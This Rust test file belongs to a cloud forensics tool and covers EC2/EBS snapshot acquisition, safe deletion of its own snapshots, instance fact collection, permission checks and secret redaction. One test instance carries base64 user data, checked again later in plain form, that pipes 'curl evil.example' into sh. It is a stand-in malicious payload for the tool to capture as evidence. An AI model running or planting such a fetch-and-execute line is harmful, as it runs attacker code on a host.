//! Volumes and instances of EC2: snapshots that we make, read and delete, and what is known of the instance beside them.
//!
//! Against moto, which has no locks and no simulation of policies: these are tried against answers in the shape that AWS
//! documents, from a server of ours on loopback.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::Path;
use std::sync::atomic::AtomicBool;
use std::sync::{Arc, Mutex};

use acquire::aws::cloudtrail::{CloudTrail, EventQuery};
use acquire::aws::ec2::{Ec2, Lock, LockMode};
use acquire::aws::iam::Iam;
use acquire::aws::kms::Kms;
use acquire::aws::quotas::{EbsQuota, Quotas};
use acquire::aws::ssm::{Command, Ssm};
use acquire::aws::sts::{RoleToAssume, Sts};
use acquire::aws::{Connection, Credentials, FailureKind, Settings};
use acquire::ebs::permissions::{PermissionState, check};
use acquire::ebs::{Deletion, EbsSnapshot, InstanceFacts, OwnSnapshots, Target};
use acquire::{Acquisition, NoProgress};
use custody::bundle::Bundle;
use custody::{Case, EntryType, NewCase, NewEntry, Writer, sha256};

use crate::ebs::{connection, image, snapshot, some_blocks};
use crate::loopback;
use crate::moto::{Moto, moto};
use crate::support::*;

const SECRET: &str = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY";
const TOKEN: &str = "FwoGZXIvYXdzEXAMPLETOKEN";

fn between<'a>(text: &'a str, start: &str, end: &str) -> &'a str {
    text.split_once(start).and_then(|(_, rest)| rest.split_once(end)).unwrap().0
}

/// A running instance: its root disk is made from a snapshot, a second disk is empty.
fn instance(moto: &Moto, region: &str, root: &str) -> String {
    let answer = moto.ask(region,
        &format!(
            "Action=RunInstances&Version=2016-11-15&ImageId=ami-12c6146b&MinCount=1&MaxCount=1&InstanceType=t3.micro\
             &UserData=IyEvYmluL3NoCmN1cmwgZXZpbC5leGFtcGxlIHwgc2gK\
             &BlockDeviceMapping.1.DeviceName=%2Fdev%2Fxvda&BlockDeviceMapping.1.Ebs.SnapshotId={root}\
             &BlockDeviceMapping.1.Ebs.VolumeSize=1&BlockDeviceMapping.2.DeviceName=%2Fdev%2Fsdf\
             &BlockDeviceMapping.2.Ebs.VolumeSize=1"
        ),
    );
    between(&answer, "<instanceId>", "</instanceId>").to_owned()
}

fn case(folder: &Path, writer: &Writer<'_>) -> Case {
    let new = NewCase { name: "ir-2026-017".into(), examiner: "J. Doe".into(), ..NewCase::default() };
    Case::create(folder, &new, writer).unwrap()
}

/// What the case's log says was done: each act with its outcome.
fn acts(case: &Case) -> Vec<String> {
    let entries = case.log().read().unwrap().entries;
    let mut acts = Vec::new();
    for entry in &entries {
        if entry.kind == EntryType::ACQUIRE_START {
            acts.push(entry.how_text("act").unwrap().to_owned());
        } else if entry.kind == EntryType::ACQUIRE_END || entry.kind == EntryType::ACQUIRE_ERROR {
            let outcome = entry.about.result.keys().chain(entry.about.errors.keys()).next();
            acts.push(format!("-> {}", outcome.unwrap()));
        }
    }
    acts
}

#[test]
fn all_volumes_of_an_instance_are_snapshotted_read_and_only_our_own_snapshots_deleted() {
    let Some(moto) = moto() else { return };
    let (place, region, blocks) = (tempfile::tempdir().unwrap(), "eu-west-3", some_blocks());
    let foreign = snapshot(moto, region, &blocks);
    let id = instance(moto, region, &foreign);
    let connection = connection(moto, region);
    with_writer(|writer| {
        let case = case(&place.path().join("case"), writer);
        let own = OwnSnapshots::begin(&connection, &case, writer).unwrap();
        let target: Target = id.parse().unwrap();
        let ec2 = Ec2::new(&connection).unwrap();
        let found = ec2.describe_instance(&id).unwrap().value;
        assert_eq!(found.devices.len(), 2, "{found:?}");
        let mut made = own.of_instance(&found).unwrap();
        let mut names: Vec<String> = made.iter().map(|made| made.exhibit_name(&target)).collect();
        names.sort();
        assert_eq!(names, [format!("{id}-sdf"), format!("{id}-xvda")]);

        for made in &mut made {
            own.wait(made, &NoProgress, &AtomicBool::new(false)).unwrap();
            assert_eq!(made.snapshot.tag("CaseId"), Some(case.file().id.as_str()));
            assert_eq!(made.snapshot.tag("created-by"), Some("exhibit"));
            assert_eq!(made.snapshot.tag("exhibit-run"), Some(own.run()));
        }
        let root = made.iter().find(|made| made.device == "/dev/xvda").unwrap();
        let capture = EbsSnapshot::open(&connection, &root.snapshot.id).unwrap();
        let report = Acquisition::new(capture, destination(&place.path().join("root"))).run(writer).unwrap();
        assert_eq!(report.streams[0].sha256, sha256(&image(&blocks)));

        // Somebody else changes a tag: it is not ours any more.
        let taken = &made[1].snapshot.id;
        moto.ask(region,
            &format!(
                "Action=CreateTags&Version=2016-11-15&ResourceId.1={taken}&Tag.1.Key=exhibit-run&Tag.1.Value=x"
            ),
        );
        assert_eq!(own.delete(&made[0]).unwrap(), Deletion::Deleted);
        assert_eq!(own.delete(&made[0]).unwrap(), Deletion::Gone);
        let kept = own.delete(&made[1]).unwrap();
        assert!(matches!(&kept, Deletion::Kept(why) if why.contains("exhibit-run")), "{kept:?}");
        assert!(ec2.describe_snapshot(taken).is_ok() && ec2.describe_snapshot(&foreign).is_ok());
        assert_eq!(acts(&case), ["EC2 CreateSnapshots", "-> snapshots", "EC2 DeleteSnapshot", "-> deleted"]);
    });
}

#[test]
fn what_an_earlier_run_left_is_named_and_can_be_gone_on_with() {
    let Some(moto) = moto() else { return };
    let (place, region) = (tempfile::tempdir().unwrap(), "eu-south-1");
    let answer =
        moto.ask(region, "Action=CreateVolume&Version=2016-11-15&Size=1&AvailabilityZone=eu-south-1a");
    let volume = between(&answer, "<volumeId>", "</volumeId>").to_owned();
    let connection = connection(moto, region);
    with_writer(|writer| {
        let case = case(&place.path().join("case"), writer);
        let target: Target = volume.parse().unwrap();
        let ec2 = Ec2::new(&connection).unwrap();
        let found = ec2.describe_volume(&volume).unwrap().value;
        // One run dies after the request, before its answer is logged; one decides to keep its snapshot.
        let died = OwnSnapshots::begin(&connection, &case, writer).unwrap();
        let begun =
            NewEntry::new(EntryType::ACQUIRE_START).how("act", "EC2 CreateSnapshot").how("run", died.run());
        case.append(begun, writer).unwrap();
        let left = ec2.create_snapshot(&volume, "", &died.tags(&target)).unwrap().value;
        let kept = OwnSnapshots::begin(&connection, &case, writer).unwrap();
        let on_purpose = kept.of_volume(&found).unwrap();
        kept.keep(&on_purpose, "--keep-snapshot").unwrap();

        let next = OwnSnapshots::begin(&connection, &case, writer).unwrap();
        let orphans = next.orphans().unwrap();
        assert_eq!(orphans.len(), 1, "{orphans:?}");
        assert_eq!((&orphans[0].snapshot.id, &*orphans[0].run), (&left.id, died.run()));
        assert_eq!((&*orphans[0].target, orphans[0].is_logged), (&*volume, false));
        assert!(orphans[0].is_of_this_log);
        // A later run, of a copy of this case elsewhere: this log does not tell of it, and it may be at work.
        let stranger = OwnSnapshots::begin(&connection, &case, writer).unwrap();
        let foreign = ec2.create_snapshot(&volume, "", &stranger.tags(&target)).unwrap().value;
        let orphans = next.orphans().unwrap();
        assert!(orphans.iter().any(|orphan| orphan.snapshot.id == foreign.id && !orphan.is_of_this_log));
        let gone_on = next.go_on_with(&target, None).unwrap();
        assert_eq!((gone_on.len(), &gone_on[0].snapshot.id), (1, &left.id));
        assert_eq!(next.made_by(kept.run()).unwrap(), [on_purpose.snapshot.id.clone()].into());
        assert_eq!(gone_on[0].exhibit_name(&target), volume);
        assert_eq!(next.delete(&gone_on[0]).unwrap(), Deletion::Deleted);
        assert!(next.orphans().unwrap().iter().all(|orphan| orphan.snapshot.id == foreign.id));
        assert!(next.go_on_with(&target, None).unwrap().is_empty());
        assert!(ec2.describe_snapshot(&on_purpose.snapshot.id).is_ok());
    });
}

#[test]
fn what_is_known_of_an_instance_is_one_exhibit_and_what_could_not_be_had_is_listed() {
    let Some(moto) = moto() else { return };
    let (place, region) = (tempfile::tempdir().unwrap(), "ap-southeast-3");
    let id = instance(moto, region, &snapshot(moto, region, &BTreeMap::new()));
    let facts = InstanceFacts::open(&connection(moto, region), &id).unwrap();
    let folder = place.path().join("facts");
    let report = with_writer(|writer| Acquisition::new(facts, destination(&folder)).run(writer)).unwrap();
    let bundle = Bundle::open(&folder).unwrap();
    let tar = read_all(&bundle, "objects");
    let mut files = BTreeMap::new();
    for entry in tar::Archive::new(&tar[..]).entries().unwrap() {
        let mut entry = entry.unwrap();
        let path = entry.path().unwrap().to_str().unwrap().to_owned();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).unwrap();
        files.insert(path, bytes);
    }
    assert_eq!(files["ec2/user-data.bin"], b"#!/bin/sh\ncurl evil.example | sh\n");
    for path in
        ["ec2/instance.xml", "ec2/security-groups.xml", "ec2/volumes.xml", "ec2/image.xml", "ec2/tags.xml"]
    {
        assert!(files.contains_key(path), "{path} of {:?}", files.keys());
    }
    assert!(String::from_utf8_lossy(&files["ec2/instance.xml"]).contains(&id));
    // Every answer is told of, with the hash of what is stored; every failure is an issue and a line.
    let (mut had, mut failed) = (0, 0);
    for line in String::from_utf8(files["answers.jsonl"].clone()).unwrap().lines() {
        let line: serde_json::Value = serde_json::from_str(line).unwrap();
        match line.get("path") {
            Some(path) => {
                let bytes = &files[path.as_str().unwrap().trim_start_matches('/')];
                assert_eq!(line["sha256"].as_str().unwrap(), sha256(bytes).to_string());
                had += 1;
            }
            None => {
                assert!(line["failure"].as_str().unwrap().contains("failed"), "{line}");
                failed += 1;
            }
        }
    }
    assert!(had >= 15, "{had} had, {failed} failed");
    assert_eq!(report.issue_count, failed, "{:?}", report.issues);
}

#[test]
fn the_other_services_answer_as_their_documents_say() {
    let Some(moto) = moto() else { return };
    let connection = connection(moto, "eu-west-1");
    let who = Sts::new(&connection).unwrap().caller_identity().unwrap();
    assert_eq!(who.value.account, "123456789012");
    assert_eq!(CloudTrail::new(&connection).unwrap().describe_trails().unwrap().value, []);
    let failure = Kms::new(&connection).unwrap().describe_key("alias/none").unwrap_err();
    assert_eq!(failure.kind, FailureKind::NotFound, "{failure}");
    let failure = Ec2::new(&connection).unwrap().describe_instance("i-0123456789abcdef0").unwrap_err();
    assert_eq!(failure.kind, FailureKind::NotFound, "{failure}");
    let failure = Iam::new(&connection).unwrap().role("none").unwrap_err();
    assert_eq!(failure.kind, FailureKind::NotFound, "{failure}");
    let ssm = Ssm::new(&connection).unwrap();
    let command = Command {
        document: "AWS-RunShellScript".to_owned(),
        parameters: vec![("commands".to_owned(), vec!["true".to_owned()])],
        comment: "evidence".to_owned(),
        seconds: 30,
    };
    let sent = ssm.send_command("i-0123456789abcdef0", &command).unwrap().value;
    let ended = ssm.invocation(&sent, "i-0123456789abcdef0").unwrap().value;
    assert!(ended.has_ended(), "{ended:?}");
    let role = RoleToAssume {
        arn: "arn:aws:iam::123456789012:role/ir".to_owned(),
        session_name: "exhibit".to_owned(),
        external_id: Some("case 17".to_owned()),
        seconds: None,
    };
    let assumed = Sts::new(&connection).unwrap().assume_role(&role).unwrap();
    assert!(assumed.arn.ends_with("assumed-role/ir/exhibit"), "{assumed:?}");
    assert!(!format!("{assumed:?}").contains(&assumed.credentials.secret_access_key));
}

/// What a server of ours is asked, and what it answers.
struct Told {
    connection: Connection,
    asked: Arc<Mutex<Vec<String>>>,
}

/// A server that answers each body by `answer`, and is asked with credentials whose secrets no one may see.
fn told(answer: impl Fn(&str) -> (u16, String) + Send + Sync + 'static) -> Told {
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let seen = Arc::clone(&asked);
    let endpoint = loopback::serve(move |path, body| {
        let body = format!("{path} {}", String::from_utf8_lossy(body));
        seen.lock().unwrap().push(body.clone());
        let (status, answer) = answer(&body);
        (status, answer.into_bytes())
    });
    let settings = Settings {
        region: Some("eu-central-1".to_owned()),
        credentials: Some(Credentials {
            access_key_id: "AKIDEXAMPLE".to_owned(),
            secret_access_key: SECRET.to_owned(),
            session_token: Some(TOKEN.to_owned()),
        }),
        endpoint: Some(endpoint),
        ..Settings::default()
    };
    Told { connection: Connection::open(&settings).unwrap(), asked }
}

const WHO: &str = "<GetCallerIdentityResponse><GetCallerIdentityResult>\
    <Arn>arn:aws:sts::123456789012:assumed-role/ir/jane</Arn><UserId>A</UserId><Account>123456789012</Account>\
    </GetCallerIdentityResult></GetCallerIdentityResponse>";

#[test]
fn events_are_looked_up_page_by_page_and_a_circle_of_pages_ends_it() {
    let told = told(|body| {
        let (token, page) = if body.contains("t1") {
            ("t2", 2)
        } else if body.contains("t2") {
            ("t1", 3)
        } else {
            ("t1", 1)
        };
        let record = r#"{\"eventName\":\"CreateSnapshot\"}"#;
        (
            200,
            format!(
                r#"{{"Events":[{{"EventId":"e{page}","EventTime":1.7E9,"CloudTrailEvent":"{record}"}}],"NextToken":"{token}"}}"#
            ),
        )
    });
    let trail = CloudTrail::new(&told.connection).unwrap();
    let query =
        EventQuery { since: Some(1), until: Some(2), attribute: Some(("EventName".into(), "X".into())) };
    let mut pages = Vec::new();
    let result = trail.lookup_events(&query, |events, raw| {
        pages.push((events[0].id.clone(), events[0].time, events[0].record.clone(), raw.bytes.len()));
        Ok::<_, acquire::Error>(())
    });
    let acquire::Error::Cloud(failure) = result.unwrap_err() else { panic!() };
    assert!(failure.message.contains("circle"), "{failure}");
    assert_eq!(pages.len(), 3);
    assert_eq!((&*pages[0].0, pages[0].1, &*pages[2].0), ("e1", Some(1.7e9), "e3"));
    assert_eq!(pages[0].2, r#"{"eventName":"CreateSnapshot"}"#);
    let asked = told.asked.lock().unwrap();
    assert!(
        asked[0].contains(r#""StartTime":1"#) && asked[0].contains(r#""AttributeKey":"EventName""#),
        "{asked:?}"
    );
}

#[test]
fn a_quota_is_the_accounts_own_or_the_default_of_aws() {
    let told = told(|body| match body {
        body if body.contains("L-C125AE42") => (200, r#"{"Quota":{"Value":5000.0}}"#.to_owned()),
        _ => (400, r#"{"__type":"com.amazonaws#NoSuchResourceException","message":"none"}"#.to_owned()),
    });
    let quotas = Quotas::new(&told.connection).unwrap();
    assert_eq!(quotas.ebs(EbsQuota::GetPerAccount).unwrap().value, 5000);
    assert_eq!(quotas.ebs(EbsQuota::ListPerAccount).unwrap_err().kind, FailureKind::NotFound);
    assert_eq!(told.asked.lock().unwrap().len(), 3);
}

#[test]
fn a_denial_is_asked_for_once_and_names_the_permission_and_a_throttled_request_is_asked_again() {
    let tries = Arc::new(Mutex::new(0));
    let told = told(move |body| {
        if body.contains("DescribeVolumes") {
            *tries.lock().unwrap() += 1;
            if *tries.lock().unwrap() < 3 {
                return (
                    503,
                    "<Response><Errors><Error><Code>RequestLimitExceeded</Code></Error></Errors></Response>"
                        .into(),
                );
            }
            return (
                200,
                "<R><volumeSet><item><volumeId>vol-01234567</volumeId><size>8</size></item></volumeSet></R>"
                    .into(),
            );
        }
        (403, "<Response><Errors><Error><Code>UnauthorizedOperation</Code><Message>You are not authorized to perform \
               this operation. Encoded authorization failure message: AAAAAAAA</Message></Error></Errors></Response>".into())
    });
    let ec2 = Ec2::new(&told.connection).unwrap();
    assert_eq!(ec2.describe_volume("vol-01234567").unwrap().value.gib, 8);
    let failure = ec2.create_snapshots("i-01234567", "", &[]).unwrap_err();
    assert_eq!(failure.kind, FailureKind::Denied);
    let said = failure.to_string();
    assert!(
        said.contains("missing permission ec2:CreateSnapshots on i-01234567") && !said.contains("AAAA"),
        "{said}"
    );
    assert_eq!(told.asked.lock().unwrap().len(), 4);
}

#[test]
fn a_request_that_makes_something_is_never_sent_twice_when_nobody_knows_what_became_of_the_first() {
    let place = tempfile::tempdir().unwrap();
    let told = told(|body| match body {
        body if body.contains("GetCallerIdentity") => (200, WHO.to_owned()),
        body if body.contains("DescribeSnapshots") => (200, "<R><snapshotSet/></R>".to_owned()),
        _ => (503, String::new()),
    });
    with_writer(|writer| {
        let case = case(&place.path().join("case"), writer);
        let own = OwnSnapshots::begin(&told.connection, &case, writer).unwrap();
        let volume = acquire::aws::ec2::Volume { id: "vol-01234567".into(), ..Default::default() };
        assert!(own.of_volume(&volume).is_err());
        // It was looked for by its tags, and the act stays open in the log.
        let asked = told.asked.lock().unwrap();
        let count = |what: &str| asked.iter().filter(|body| body.contains(what)).count();
        assert_eq!(
            (count("Action=CreateSnapshot&"), count("Action=DescribeSnapshots&")),
            (1, 1),
            "{asked:?}"
        );
        assert_eq!(acts(&case), ["EC2 CreateSnapshot", "-> not known"]);
    });
}

/// A server with one snapshot of ours, made by the run that asks for it, that answers its deletions one after the other.
fn with_one_snapshot(deletions: Vec<(u16, String)>) -> (Told, Arc<Mutex<String>>) {
    let tags: Arc<Mutex<String>> = Arc::default();
    let known = Arc::clone(&tags);
    let deletions = Mutex::new(deletions);
    let told = told(move |body| {
        let fields = format!(
            "<snapshotId>snap-01234567</snapshotId><volumeId>vol-01234567</volumeId><status>completed</status>\
             <ownerId>123456789012</ownerId><volumeSize>1</volumeSize><tagSet>{}</tagSet>",
            known.lock().unwrap()
        );
        let answer = match body {
            body if body.contains("GetCallerIdentity") => WHO.to_owned(),
            body if body.contains("Action=CreateSnapshot&") => format!("<R>{fields}</R>"),
            body if body.contains("DescribeLockedSnapshots") => "<R><snapshotSet/></R>".to_owned(),
            body if body.contains("DescribeSnapshots") => {
                format!("<R><snapshotSet><item>{fields}</item></snapshotSet></R>")
            }
            body if body.contains("DeleteSnapshot") => {
                let mut deletions = deletions.lock().unwrap();
                // The last of them for ever.
                return if deletions.len() > 1 { deletions.remove(0) } else { deletions[0].clone() };
            }
            _ => return (400, String::new()),
        };
        (200, answer)
    });
    (told, tags)
}

#[test]
fn a_deletion_whose_answer_was_lost_is_ours_all_the_same_and_one_that_nobody_answers_is_not_known() {
    let gone = "<Response><Errors><Error><Code>InvalidSnapshot.NotFound</Code></Error></Errors></Response>";
    let lost = vec![(500, String::new()), (400, gone.to_owned())];
    let never = vec![(500, String::new())];
    for (deletions, outcome) in [(lost, "-> deleted"), (never, "-> not known")] {
        let place = tempfile::tempdir().unwrap();
        let (told, tags) = with_one_snapshot(deletions);
        with_writer(|writer| {
            let case = case(&place.path().join("case"), writer);
            let own = OwnSnapshots::begin(&told.connection, &case, writer).unwrap();
            let items = own.tags(&"vol-01234567".parse().unwrap()).into_iter();
            let items =
                items.map(|(key, value)| format!("<item><key>{key}</key><value>{value}</value></item>"));
            *tags.lock().unwrap() = items.collect();
            let volume = acquire::aws::ec2::Volume { id: "vol-01234567".into(), ..Default::default() };
            let made = own.of_volume(&volume).unwrap();
            let ended = own.delete(&made);
            assert_eq!(ended.is_ok(), outcome == "-> deleted", "{ended:?}");
            assert!(!matches!(ended, Ok(Deletion::Gone | Deletion::Kept(_))), "{ended:?}");
            assert_eq!(acts(&case)[2..], ["EC2 DeleteSnapshot", outcome]);
        });
    }
}

#[test]
fn a_locked_snapshot_is_never_deleted() {
    let place = tempfile::tempdir().unwrap();
    let tags: Arc<Mutex<String>> = Arc::default();
    let known = Arc::clone(&tags);
    let told = told(move |body| {
        let snapshot = |state: &str| {
            format!(
                "<snapshotId>snap-01234567</snapshotId><volumeId>vol-01234567</volumeId><status>{state}</status>\
                 <ownerId>123456789012</ownerId><volumeSize>1</volumeSize><tagSet>{}</tagSet>",
                known.lock().unwrap()
            )
        };
        let answer = match body {
            body if body.contains("GetCallerIdentity") => WHO.to_owned(),
            body if body.contains("Action=CreateSnapshot&") => format!("<R>{}</R>", snapshot("pending")),
            body if body.contains("LockSnapshot&") => "<R><snapshotId>snap-01234567</snapshotId><lockState>compliance-cooloff\
                </lockState><lockExpiresOn>2026-12-21T00:00:00Z</lockExpiresOn></R>".to_owned(),
            body if body.contains("DescribeLockedSnapshots") => "<R><snapshotSet><item><snapshotId>snap-01234567</snapshotId>\
                <lockState>compliance</lockState><lockExpiresOn>2026-12-21T00:00:00Z</lockExpiresOn></item></snapshotSet></R>".to_owned(),
            body if body.contains("DescribeSnapshots") => format!("<R><snapshotSet><item>{}</item></snapshotSet></R>", snapshot("completed")),
            _ => return (400, String::new()),
        };
        (200, answer)
    });
    with_writer(|writer| {
        let case = case(&place.path().join("case"), writer);
        let own = OwnSnapshots::begin(&told.connection, &case, writer).unwrap();
        let target: Target = "vol-01234567".parse().unwrap();
        let items = own
            .tags(&target)
            .into_iter()
            .map(|(key, value)| format!("<item><key>{key}</key><value>{value}</value></item>"));
        *tags.lock().unwrap() = items.collect();
        let volume = acquire::aws::ec2::Volume { id: "vol-01234567".into(), ..Default::default() };
        let mut made = own.of_volume(&volume).unwrap();
        own.lock(&mut made, Lock { mode: LockMode::Compliance, days: 30 }).unwrap();
        assert_eq!(made.lock.as_ref().unwrap().expires, "2026-12-21T00:00:00Z");
        let kept = own.delete(&made).unwrap();
        assert!(
            matches!(&kept, Deletion::Kept(why) if why.contains("compliance") && why.contains("2026-12-21")),
            "{kept:?}"
        );
        let asked = told.asked.lock().unwrap();
        assert!(asked.iter().any(|body| body.contains("LockMode=compliance&LockDuration=30")), "{asked:?}");
        assert!(!asked.iter().any(|body| body.contains("DeleteSnapshot")), "{asked:?}");
        assert_eq!(acts(&case), ["EC2 CreateSnapshot", "-> snapshots", "EC2 LockSnapshot", "-> expires"]);
    });
}

#[test]
fn permissions_are_found_out_without_making_anything_and_the_key_is_told_apart() {
    let told = told(|body| {
        let yes = |action: &str, decision: &str| {
            format!(
                "<member><EvalActionName>{action}</EvalActionName><EvalResourceName>*</EvalResourceName>\
                     <EvalDecision>{decision}</EvalDecision></member>"
            )
        };
        match body {
            body if body.contains("GetCallerIdentity") => (200, WHO.to_owned()),
            body if body.contains("DescribeVolumes") => (
                200,
                "<R><volumeSet><item><volumeId>vol-01234567</volumeId><kmsKeyId>arn:aws:kms:eu-central-1:123456789012:key/k\
                 </kmsKeyId></item></volumeSet></R>".to_owned(),
            ),
            body if body.contains("DryRun=true") => (
                412,
                "<Response><Errors><Error><Code>DryRunOperation</Code><Message>Request would have succeeded</Message>\
                 </Error></Errors></Response>".to_owned(),
            ),
            body if body.contains("SimulatePrincipalPolicy") => {
                let decided: String = ["ebs:ListSnapshotBlocks", "ebs:GetSnapshotBlock", "ec2:DeleteSnapshot", "kms:Decrypt"]
                    .iter()
                    .filter(|action| body.contains(&action.replace(':', "%3A")))
                    .map(|action| yes(action, if *action == "ec2:DeleteSnapshot" { "implicitDeny" } else { "allowed" }))
                    .collect();
                (200, format!("<R><SimulatePrincipalPolicyResult><IsTruncated>false</IsTruncated><EvaluationResults>{decided}\
                    </EvaluationResults></SimulatePrincipalPolicyResult></R>"))
            }
            body if body.contains("KeyId") => (400, r#"{"__type":"AccessDeniedException","Message":"not authorized"}"#.to_owned()),
            _ => (400, String::new()),
        }
    });
    let found = check(&told.connection, &"vol-01234567".parse().unwrap(), None, false).unwrap();
    let state = |action: &str| found.iter().find(|one| one.action == action).unwrap().state;
    assert_eq!(state("ec2:CreateSnapshot"), PermissionState::Allowed);
    assert_eq!(state("ebs:GetSnapshotBlock"), PermissionState::Allowed);
    assert_eq!(state("ec2:DeleteSnapshot"), PermissionState::Denied);
    assert_eq!(state("kms:DescribeKey"), PermissionState::Denied);
    assert_eq!(state("ec2:CreateTags"), PermissionState::NotTested);
    let asked = told.asked.lock().unwrap();
    let principal = "PolicySourceArn=arn%3Aaws%3Aiam%3A%3A123456789012%3Arole%2Fir&";
    assert!(asked.iter().any(|body| body.contains(principal)), "{asked:?}");
    let makes = |body: &String| body.contains("Action=Create") && !body.contains("DryRun=true");
    assert!(!asked.iter().any(makes), "{asked:?}");
}

#[test]
fn permissions_on_an_instance_of_moto_are_told_one_by_one() {
    let Some(moto) = moto() else { return };
    let region = "ca-central-1";
    let id = instance(moto, region, &snapshot(moto, region, &BTreeMap::new()));
    let found = check(&connection(moto, region), &id.parse().unwrap(), Some("case"), true).unwrap();
    let state = |action: &str| found.iter().find(|one| one.action == action).unwrap().state;
    assert_eq!(state("ec2:CreateSnapshots"), PermissionState::Allowed, "{found:?}");
    assert_eq!(state("ec2:LockSnapshot"), PermissionState::NotTested);
    let left =
        Ec2::new(&connection(moto, region)).unwrap().snapshots_with(&[("created-by", "exhibit")]).unwrap();
    assert_eq!(left.value, []);
}

#[test]
fn no_secret_shows_in_any_failure_or_debug_whatever_a_server_answers() {
    let echo = |body: &str| {
        format!(
            "<Response><Errors><Error><Code>SignatureDoesNotMatch</Code><Message>{body} \
        x-amz-security-token:{TOKEN}</Message></Error></Errors></Response>"
        )
    };
    let answers: [(u16, String); 6] = [
        (403, echo("The canonical request was")),
        (200, "<a".to_owned()),
        (200, "<a/>".to_owned()),
        (200, "[".repeat(100_000)),
        (
            403,
            format!(r#"{{"__type":"InvalidSignatureException","message":"the string to sign was {TOKEN}"}}"#),
        ),
        (301, String::new()),
    ];
    for (status, answer) in answers {
        let told = told(move |_| (status, answer.clone()));
        let connection = &told.connection;
        let role = RoleToAssume {
            arn: "arn:aws:iam::1:role/x".into(),
            session_name: "s".into(),
            ..Default::default()
        };
        let sts = Sts::new(connection).unwrap();
        let failures = [
            sts.caller_identity().unwrap_err(),
            sts.assume_role(&role).unwrap_err(),
            Ec2::new(connection).unwrap().create_snapshot("vol-01234567", "", &[]).unwrap_err(),
            Kms::new(connection).unwrap().describe_key("k").unwrap_err(),
        ];
        for failure in failures {
            let shown = format!(
                "{failure} {failure:?} {connection:?} {sts:?} {:?}",
                acquire::Error::from(failure.clone())
            );
            assert!(
                !shown.contains(SECRET) && !shown.contains(TOKEN) && !shown.contains("Signature="),
                "{shown}"
            );
        }
    }
    // Nothing answers at all.
    let settings = Settings {
        region: Some("eu-central-1".to_owned()),
        credentials: Some(Credentials {
            access_key_id: "AKIDEXAMPLE".to_owned(),
            secret_access_key: SECRET.to_owned(),
            session_token: Some(TOKEN.to_owned()),
        }),
        endpoint: Some("http://127.0.0.1:1".to_owned()),
        ..Settings::default()
    };
    let connection = Connection::open(&settings).unwrap();
    let failure = Ec2::new(&connection).unwrap().create_snapshot("vol-01234567", "", &[]).unwrap_err();
    assert_eq!(failure.kind, FailureKind::Connection, "{failure}");
    assert!(!format!("{failure} {failure:?} {settings:?}").contains(SECRET));
}

#[test]
fn an_agent_that_is_not_there_is_not_in_the_answer() {
    let told = told(|body| {
        assert!(body.contains("InstanceIds"), "{body}");
        (200, r#"{"InstanceInformationList":[{"InstanceId":"i-01234567","PingStatus":"Online","AgentVersion":"3.3","PlatformType":"Linux"}]}"#.to_owned())
    });
    let agents = Ssm::new(&told.connection).unwrap().agents(&["i-01234567", "i-76543210"]).unwrap().value;
    assert_eq!((agents.len(), &*agents[0].ping), (1, "Online"));
}
